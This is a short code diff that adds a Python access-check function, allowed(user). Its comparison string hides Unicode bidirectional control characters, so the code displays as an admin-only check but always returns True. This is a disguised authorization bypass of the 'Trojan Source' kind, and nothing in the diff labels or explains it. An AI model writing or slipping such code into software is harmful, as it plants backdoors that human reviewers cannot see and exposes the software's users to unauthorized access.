@@ -1,0 +1,5 @@
+def allowed(user):
+    level = "user"
+    if level != "user‮ ⁦# only admins⁩ ⁦":
+        return True
+    return False
